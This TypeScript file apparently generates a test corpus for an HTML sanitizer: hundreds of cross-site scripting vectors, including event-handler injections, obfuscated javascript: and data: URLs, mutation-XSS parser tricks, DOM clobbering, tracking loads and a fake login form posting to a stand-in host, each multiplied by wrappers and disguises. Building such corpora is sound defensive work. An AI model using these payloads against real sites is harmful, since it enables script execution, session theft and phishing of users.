// HTML that tries to run scripts, load resources or take over the page, each sample in many disguises. A sample that a
// browser runs calls `top.hit(n)` with its number.

/** Placeholder for that call, replaced at the end so that it works in nested attributes too. */
const run = 'HIT'
const elsewhere = 'https://elsewhere.invalid'

const events = [
  'load',
  'error',
  'click',
  'focus',
  'mouseover',
  'toggle',
  'animationstart',
  'begin',
  'pointerenter',
]

const scripts = [
  `<script>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script src="${elsewhere}/x.js"></script>`,
  `<script type="module">${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `<img/src=x/onerror=${run}//`,
  `<img src="x\`onerror=${run}\`">`,
  `<img """><script>${run}</script>">`,
  `<image src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}><option>x</select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<details open ontoggle=${run}>x</details>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${run}">x</p>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe onload=${run}></iframe>`,
  `<frameset onload=${run}>`,
  ...events.map((event) => `<p on${event}="${run}" tabindex=0>x</p>`),
  ...events.map((event) => `<a href="/x" ON${event.toUpperCase()} = '${run}'>x</a>`),
]

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java&#10;script:${run}`,
  `java&Tab;script:${run}`,
  `javascript&colon;${run}`,
  `&#106;&#97;vascript:${run}`,
  `&#x6a;avascript:${run}`,
  `&#0000106avascript:${run}`,
  `&#1;javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\u0000script:${run}`,
  `javascript://%0a${run}`,
  `javascript:/*-->*/${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD50b3AuaGl0KDEpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `blob:${elsewhere}/x`,
  `filesystem:${elsewhere}/x`,
  `//elsewhere.invalid/x`,
  `/\\elsewhere.invalid/x`,
  `\\\\elsewhere.invalid/x`,
  `/\t/elsewhere.invalid/x`,
  `https:elsewhere.invalid`,
  `https://user:pass@elsewhere.invalid`,
  `feed:javascript:${run}`,
  `view-source:javascript:${run}`,
].flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<a href='${address}'>x</a>`,
  `<img src="${address}" alt=x>`,
  `<img src=x srcset="${address} 1x">`,
  `<form action="${address}"><button>x</button></form>`,
  `<button formaction="${address}" form=f>x</button>`,
  `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
  `<math><maction xlink:href="${address}">x</maction></math>`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<base href="${address}"><a href="x">x</a>`,
  `<area href="${address}"><table background="${address}"><td background="${address}">x</table>`,
  `<link rel=stylesheet href="${address}"><link rel=import href="${address}">`,
])

// Mutation XSS: harmless to other parsers than the browser's.
const mutations = [
  `<svg><style><img src=x onerror=${run}></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<svg><p><style><a title="</style><img src=x onerror=${run}>"></a></style></p></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<svg><foreignObject><p><img src=x onerror=${run}></p></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=${run}></desc></svg>`,
  `<svg><title><style><img src=x onerror=${run}></style></title></svg>`,
  `<svg><animate attributeName=href values=javascript:${run} /><a id=x><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${run}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"></use></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script>&#116;op.hit(1)</script></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<noscript><style></noscript><img src=x onerror=${run}></style></noscript>`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<style><!--</style><img src=x onerror=${run}>--></style>`,
  `<title><p title="</title><img src=x onerror=${run}>"></title>`,
  `<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<textarea></textarea/><img src=x onerror=${run}></textarea>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
  `<iframe><p title="</iframe><img src=x onerror=${run}>"></iframe>`,
  `<noembed><p title="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${run}>"></noframes>`,
  `<plaintext><img src=x onerror=${run}>`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<select><option><style></option></select><img src=x onerror=${run}></style>`,
  `<option>&lt;img src=x onerror=${run}&gt;</option>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!--!><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<svg><![CDATA[</svg><img src=x onerror=${run}>]]></svg>`,
  `<?xml version="1.0"><img src=x onerror=${run}>?>`,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${run}>">]>&y;`,
  `</p><img src=x onerror=${run}>`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\u0000>${run}</script>`,
  `<img src=x on\u0000error=${run}>`,
  `<img src=x onerror\u000b=${run}>`,
  `<img src=x\u000conerror=${run}>`,
  `<img title='"><img src=x onerror=${run}>' src=x>`,
  `<img alt="\`><img src=x onerror=${run}>\`" src=x>`,
  `<a href="/x" title="&quot;&gt;&lt;img src=x onerror=${run}&gt;">x</a>`,
  `<a href="/x&quot; onclick=&quot;${run}">x</a>`,
  `<p lang='en" onclick="${run}' dir='ltr"><script>${run}</script>'>x</p>`,
  `<td colspan='1"><img src=x onerror=${run}>'>x</td>`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<meta charset=utf-7>+ADw-img src=x onerror=${run}+AD4-`,
  `\u00bcscript\u00be${run}\u00bc/script\u00be`,
  `<a href="/a"><a href="javascript:${run}">x</a></a>`,
  `<table><a href="javascript:${run}"><tr><td><img src=x onerror=${run}></a>`,
  `<dl><dt><button><dd><img src=x onerror=${run}></button>`,
]

// They clobber names that scripts use, load resources for tracking, or ask for input.
const intruders = [
  `<a id=hit name=hit href="/x">x</a>`,
  `<form id=document name=cookie><input name=attributes><input id=parentNode></form>`,
  `<img name=getElementById src="/content/pages/x.png" id=body alt>`,
  `<p id=__next class="fixed inset-0" style="position:fixed">x</p>`,
  `<img src="${elsewhere}/pixel.png" alt>`,
  `<img srcset="${elsewhere}/pixel.png 1x" alt>`,
  `<picture><source srcset="${elsewhere}/pixel.png"><img src="${elsewhere}/pixel.png" alt></picture>`,
  `<p style="background:url(${elsewhere}/pixel.png)">x</p>`,
  `<style>@import url(${elsewhere}/x.css);</style>`,
  `<link rel=preload as=image href="${elsewhere}/pixel.png">`,
  `<link rel=dns-prefetch href="${elsewhere}">`,
  `<video poster="${elsewhere}/pixel.png" src="${elsewhere}/x.mp4" autoplay></video>`,
  `<iframe src="${elsewhere}"></iframe>`,
  `<object data="${elsewhere}/x"></object><embed src="${elsewhere}/x">`,
  `<input type=image src="${elsewhere}/pixel.png"><input type=password name=password autofocus>`,
  `<form action="${elsewhere}" method=post><input name=q><button>Log in</button></form>`,
  `<a href="/x" ping="${elsewhere}/ping">x</a>`,
  `<a href="${elsewhere}" target=_blank rel=opener>x</a>`,
  `<body background="${elsewhere}/pixel.png">`,
  `<html manifest="${elsewhere}/x">`,
  `<portal src="${elsewhere}"></portal><fencedframe></fencedframe>`,
  `<q cite="${elsewhere}">x</q><blockquote cite="javascript:${run}">x</blockquote>`,
  `<constructor>x</constructor><__proto__ onclick=${run}>x</__proto__><tostring>x</tostring>`,
]

const vectors = [...scripts, ...addresses, ...mutations, ...intruders]

const wrappers: ((html: string) => string)[] = [
  (html) => html,
  (html) => `<table><tr><td>${html}`,
  (html) => `<p><b><i>${html}</p></i></b>`,
  (html) => `<svg><foreignObject>${html}</foreignObject></svg>`,
  (html) => `<math><mtext>${html}</mtext></math>`,
  (html) => `<noscript>${html}</noscript>`,
  (html) => `<select><option>${html}`,
  (html) => `<a href="/x" title='${html.replaceAll("'", '&#39;')}'>${html}</a>`,
  (html) => `<!-- ${html}`,
  (html) => `<style>${html}</style>${html}`,
  (html) => `${'<div>'.repeat(600)}${html}`,
  (html) => `<ul><li>${html}<li><ul>${html}`,
]

const disguises: ((html: string) => string)[] = [
  (html) =>
    html.replaceAll(/<(\/?)([a-z]+)/gi, (_, slash: string, name: string) => `<${slash}${name.toUpperCase()}`),
  (html) => html.replaceAll(/<([a-z]+)/gi, '<$1\u0000'),
  (html) => html.replaceAll(/<([a-z]+) /gi, '<$1/'),
  (html) => html.replaceAll('>', '\n>'),
  (html) => html.replaceAll(/>(?=[^>]*$)/g, ''),
  (html) => html.replaceAll('"', ''),
  (html) => html.replaceAll(/(["'])/g, '\\$1'),
  (html) => html.replaceAll('<', '<<'),
  (html) => html.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (html) => html.replaceAll('&', '&amp;').replaceAll('<', '&lt;'),
  (html) => html.replaceAll(/on(\w+)=/gi, (_, event: string) => `on${event.toUpperCase()}\t=\r\n`),
  (html) => `${html}${html}`,
]

/** Every vector without a disguise. */
export function hostileVectors(): string[] {
  return numbered(vectors)
}

/** Every vector in every wrapper and every disguise. */
export function hostileSamples(): string[] {
  const changes = [...wrappers, ...disguises]
  return numbered(vectors.flatMap((vector) => changes.map((change) => change(vector))))
}

function numbered(samples: string[]): string[] {
  return [...new Set(samples)].map((sample, index) => sample.replaceAll(run, `top.hit(${index})`))
}
